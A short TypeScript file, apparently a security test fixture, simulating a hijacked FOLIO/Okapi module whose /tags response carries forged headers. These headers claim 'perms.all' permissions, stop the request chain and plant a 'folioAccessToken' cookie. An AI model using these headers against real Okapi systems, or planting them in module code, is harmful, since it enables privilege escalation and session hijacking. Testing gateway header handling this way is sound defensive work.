import { runModule } from './module.ts'

/**
 * The hijacked module. An attacker who runs code in it has its certificate and key, and answers for it:
 * here with headers that Okapi and browsers act on.
 */
const POISON = {
  'X-Okapi-Stop': 'true',
  'X-Okapi-Permissions': '["perms.all"]',
  'Set-Cookie': 'folioAccessToken=planted; Path=/; HttpOnly',
}

runModule({
  route({ method, path }) {
    if (method !== 'GET' || path !== '/tags') return undefined
    const tags = [{ id: '0f9c1f4b-4c8d-4b37-9a0e-6f3a0d4f5b11', label: 'urgent' }]
    return { status: 200, json: { tags, totalRecords: 1 }, headers: POISON }
  },
})
